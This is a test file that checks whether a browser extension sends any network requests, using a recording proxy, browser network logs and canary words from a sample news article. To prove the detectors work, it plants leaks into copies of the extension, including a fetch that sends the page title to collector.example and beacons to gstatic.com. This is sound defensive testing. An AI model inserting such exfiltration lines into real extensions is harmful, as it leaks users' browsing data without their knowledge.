// Nothing leaves the machine. Three witnesses: a proxy through which the browser must send everything, the browser's own
// network log (who asked for what), and words of the article that must not turn up in any request.
import assert from 'node:assert/strict';
import { appendFileSync, cpSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, request as ask } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { again, extensionFolder, launch, serve, until, wanted } from './harness/index.mjs';
import { missing } from './harness/paths.mjs';

/** Words that stand in the article and nowhere else. */
const canaries = ['Quibblewick', 'Zanzelmore', 'झिंगुरपुर'];
const article = `<!doctype html><html lang="en"><meta charset="utf-8"><title>The ${canaries[0]} bridge</title>
<article><h1>Mayor says the bridge of ${canaries[0]} is safe</h1>
<p>Mayor Olga ${canaries[1]} said on Monday that the bridge was safe. Two officials, who asked not to be named, denied this.</p>
<p>The bridge was closed for four days in spring, after a lorry had run into its railing. Since then the town has waited for
a word from the engineers, whose report was to be read out at the meeting of the council on Monday evening.</p>
<p>According to the report, the railing has to be renewed before winter. “We will begin in October,” the mayor said.</p>
<p lang="hi">${canaries[2]} के मेयर अनिल वर्मा ने कहा कि पुल सुरक्षित है। सूत्रों के मुताबिक पुल में दरार है। प्रशासन ने
इन खबरों का खंडन किया है। पुल को पिछले साल चार दिन के लिए बंद किया गया था और तब से शहर के लोग रिपोर्ट का इंतज़ार कर रहे हैं।</p>
</article></html>`;

/** A proxy that writes down every request and lets through only those to one site. @param {string} allowed origin */
async function recordingProxy(allowed) {
  /** @type {{method: string, url: string, body: string}[]} */
  const seen = [];
  const server = createServer((request, response) => {
    /** @type {Buffer[]} */
    const parts = [];
    request.on('data', (part) => parts.push(part));
    request.on('end', () => {
      seen.push({ method: request.method ?? '', url: request.url ?? '', body: Buffer.concat(parts).toString() });
      if (!request.url?.startsWith(allowed)) {
        response.writeHead(502).end();
        return;
      }
      ask(request.url, { method: request.method, headers: request.headers }, (answer) => {
        response.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(response);
      }).end(Buffer.concat(parts));
    });
  });
  server.on('connect', (request, socket) => {
    seen.push({ method: 'CONNECT', url: request.url ?? '', body: '' });
    socket.on('error', () => {});
    socket.end('HTTP/1.1 502 No\r\n\r\n');
  });
  await new Promise((done) => server.listen(0, '127.0.0.1', () => done(undefined)));
  const { port } = /** @type {import('node:net').AddressInfo} */ (server.address());
  return { port, seen, close: () => (server.closeAllConnections(), server.close()) };
}

/**
 * What the witnesses saw.
 *
 * @typedef {object} Evidence
 * @property {string} site                                            origin of the news site
 * @property {string} extension                                       origin of the extension
 * @property {{method: string, url: string, body: string}[]} proxy
 * @property {{url: string, by: string}[]} log                        by: the origins that asked, as the browser knows them
 */

/**
 * A browser in which everything is used, between a proxy and its own log.
 *
 * @param {'chromium'|'firefox'} name
 * @param {{extension?: string, ownPages?: boolean}} [options]  ownPages: every page of the extension too, every button of it
 * @returns {Promise<Evidence>}
 */
async function useEverything(name, { extension = extensionFolder(name), ownPages = true } = {}) {
  const folder = mkdtempSync(join(tmpdir(), 'sutra-silence-'));
  const netLog = join(folder, 'net.json');
  const site = await serve();
  site.route('/article', article);
  const proxy = await recordingProxy(site.origin);
  const options =
    name === 'chromium'
      ? {
          args: [
            `--proxy-server=http://127.0.0.1:${proxy.port}`,
            '--proxy-bypass-list=<-loopback>',
            `--log-net-log=${netLog}`,
            '--net-log-capture-mode=Everything',
          ],
        }
      : {
          prefs: {
            'network.proxy.type': 1,
            'network.proxy.http': '127.0.0.1',
            'network.proxy.http_port': proxy.port,
            'network.proxy.ssl': '127.0.0.1',
            'network.proxy.ssl_port': proxy.port,
            'network.proxy.no_proxies_on': '',
            'network.proxy.allow_hijacking_localhost': true,
          },
        };
  const browser = /** @type {any} */ (await launch(name, { ...options, extension }));
  try {
    if (name === 'firefox') await watchFirefox(browser);

    // The page: on, pointer, keyboard, off, on.
    const page = await browser.open(site.url('/article'));
    await browser.clickAction(page);
    await page.until(() => CSS.highlights.size > 0);
    await page.hover('the bridge was safe');
    await page.click('the bridge was safe');
    for (const keys of ['Alt+Shift+N', 'Alt+Shift+N', 'Escape']) await page.keyboard.press(keys);
    await browser.killBackground();
    await page.evaluate(() => document.querySelector('article')?.insertAdjacentHTML('beforeend', '<p>Olga Zanzelmore said it again.</p>'));
    await until(async () => (await page.highlights()) && true);

    if (ownPages) {
      const pages = /** @type {string[]} */ (readdirSync(extension, { recursive: true })).filter((file) => file.endsWith('.html'));
      assert.ok(pages.length > 0);
      for (const path of pages) {
        const own = await browser.openExtensionPage(path);
        await own.until(() => document.readyState === 'complete');
        // Every button that is there, in the order of the page; what it opens or saves is its own affair.
        await own.evaluate(() => {
          // Windows of the browser's own would wait for a person.
          Object.assign(window, { print() {}, alert() {}, confirm: () => true, prompt: () => null });
          HTMLInputElement.prototype.click = () => {};
          for (const button of document.querySelectorAll('button')) if (!button.disabled) button.click();
        });
        await own.close().catch(() => {});
      }
    }
    await browser.clickAction(page);
    await page.until(() => CSS.highlights.size === 0);

    const firefoxLog = name === 'firefox' ? await firefoxRequests(browser) : [];
    await browser.close();
    return {
      site: site.origin,
      extension: browser.origin,
      proxy: proxy.seen,
      log: name === 'firefox' ? firefoxLog : chromiumRequests(netLog),
    };
  } finally {
    await browser.close().catch(() => {});
    proxy.close();
    await site.close();
    rmSync(folder, { recursive: true, force: true });
  }
}

/** What the browsers' makers have their browsers ask for. */
const MAKERS = /(^|\.)(google\.com|googleapis\.com|gstatic\.com|gvt1\.com|mozilla\.(com|org|net)|firefox\.com|services\.mozilla\.com|mozgcp\.net)$/;

/** Every request that ought not to be. @param {Evidence} evidence @returns {string[]} */
function leaks({ site, extension, proxy, log }) {
  /** @type {string[]} */
  const found = [];
  const ofPage = (/** @type {string} */ url) => url.startsWith(site) && ['/article', '/favicon.ico'].includes(new URL(url).pathname);
  for (const { url, by } of log) {
    if (!/^(https?|wss?):/.test(url)) continue;
    if (by.includes(extension)) found.push(`log: the extension asked for ${url}`);
    // What a content script asks for is asked for by the page, as far as the browser knows; this page asks for nothing.
    else if (by.includes(site) && !ofPage(url)) found.push(`log: the page asked for ${url}`);
  }
  for (const { method, url, body } of proxy) {
    if (url.startsWith(site)) {
      if (!ofPage(url)) found.push(`proxy: ${method} ${url}`);
      continue;
    }
    // What remains is the browser's own: its makers' hosts, and no word of the article.
    const host = new URL(method === 'CONNECT' ? `https://${url}` : url).hostname;
    if (!MAKERS.test(host)) found.push(`proxy: ${method} ${url}`);
    for (const word of canaries) if (decodeURIComponent(url).includes(word) || body.includes(word)) found.push(`proxy: ${word} in ${method} ${url}`);
  }
  return found;
}

/** @param {Evidence} evidence */
function sawThePage({ site, proxy, log }) {
  assert.ok(log.some(({ url }) => url === `${site}/article`), 'the log sees the page itself');
  assert.ok(proxy.some(({ url }) => url === `${site}/article`), 'the proxy sees the page itself');
}

/**
 * Extensions that are not silent, made of ours by a line or two. What the linter and the policy would stop is lifted: here
 * the witnesses are on trial.
 *
 * @type {{what: string, plant: (folder: string) => void, seen: RegExp}[]}
 */
const PLANTED = [
  {
    what: 'the page’s part tells a stranger the title',
    plant: (folder) => append(folder, 'content/main.js', 'fetch("http://collector.example/?title=" + encodeURIComponent(document.title), { mode: "no-cors" }).catch(() => {});'),
    seen: /^proxy: Quibblewick in GET http:\/\/collector\.example/,
  },
  {
    what: 'the page’s part tells a host that the browser itself talks to, encrypted',
    plant: (folder) => append(folder, 'content/main.js', 'new Image().src = "https://www.gstatic.com/?" + document.title;'),
    seen: /^log: the (page|extension) asked for https:\/\/www\.gstatic\.com/,
  },
  {
    what: 'the background asks a host that the browser itself talks to, encrypted',
    plant: (folder) => {
      append(folder, 'background/main.js', 'fetch("https://www.gstatic.com/ping").catch(() => {});');
      const manifest = JSON.parse(readFileSync(join(folder, 'manifest.json'), 'utf8'));
      manifest.content_security_policy = { extension_pages: "script-src 'self' 'wasm-unsafe-eval'" };
      writeFileSync(join(folder, 'manifest.json'), JSON.stringify(manifest));
    },
    seen: /^log: the extension asked for https:\/\/www\.gstatic\.com\/ping/,
  },
];

/** @param {string} folder @param {string} file @param {string} line */
const append = (folder, file, line) => appendFileSync(join(folder, file), `\n${line}\n`);

for (const name of wanted) {
  const reason = missing(name);
  describe(`silence [${name}]`, { skip: reason ?? false }, () => {
    it('every feature is used, and no request is made', { timeout: 540_000 }, () => again(`silence, every feature is used [${name}]`, async () => {
      const evidence = await useEverything(name);
      sawThePage(evidence);
      assert.deepEqual(leaks(evidence), []);
    }));

    for (const { what, plant, seen } of PLANTED)
      it(`a leak would be seen: ${what}`, { timeout: 360_000 }, () => again(`silence, a leak would be seen: ${what} [${name}]`, async () => {
        const folder = mkdtempSync(join(tmpdir(), 'sutra-leaking-'));
        try {
          cpSync(extensionFolder(name), folder, { recursive: true });
          plant(folder);
          const evidence = await useEverything(name, { extension: folder, ownPages: false });
          sawThePage(evidence);
          const found = leaks(evidence);
          assert.ok(found.some((leak) => seen.test(leak)), `found: ${found.join(' | ') || 'nothing'}`);
        } finally {
          rmSync(folder, { recursive: true, force: true });
        }
      }));
  });
}

/** @param {string} file @returns {{url: string, by: string}[]} */
function chromiumRequests(file) {
  const text = readFileSync(file, 'utf8').trim();
  let log;
  try {
    log = JSON.parse(text);
  } catch {
    // The browser may end before it closes the list.
    log = JSON.parse(`${text.replace(/,\s*$/, '')}]}`);
  }
  const found = [];
  for (const { params } of log.events)
    if (params?.url) found.push({ url: params.url, by: `${params.initiator ?? ''} ${params.site_for_cookies ?? ''}` });
  return found;
}

/** Firefox's parent process sees every channel with the principal that asked for it. @param {any} browser */
async function watchFirefox(browser) {
  await browser.raw.alone(() =>
    browser.raw.chrome(() => {
      const { Ci, Services } = /** @type {any} */ (globalThis);
      const seen = /** @type {{url: string, by: string}[]} */ ([]);
      const observer = {
        observe(/** @type {any} */ subject) {
          const channel = subject.QueryInterface(Ci.nsIHttpChannel);
          const { triggeringPrincipal, loadingPrincipal } = channel.loadInfo ?? {};
          seen.push({ url: channel.URI.spec, by: `${triggeringPrincipal?.origin ?? ''} ${loadingPrincipal?.origin ?? ''}` });
        },
      };
      Services.obs.addObserver(observer, 'http-on-modify-request');
      const window = Services.wm.getMostRecentWindow('navigator:browser');
      window.sutraSeen = seen;
      window.sutraObserver = observer;
    }),
  );
}

/** @param {any} browser @returns {Promise<{url: string, by: string}[]>} */
function firefoxRequests(browser) {
  return browser.raw.alone(() =>
    browser.raw.chrome(() => {
      const { Services } = /** @type {any} */ (globalThis);
      for (const window of Services.wm.getEnumerator('navigator:browser')) if (window.sutraSeen) return JSON.parse(JSON.stringify(window.sutraSeen));
      return [];
    }),
  );
}
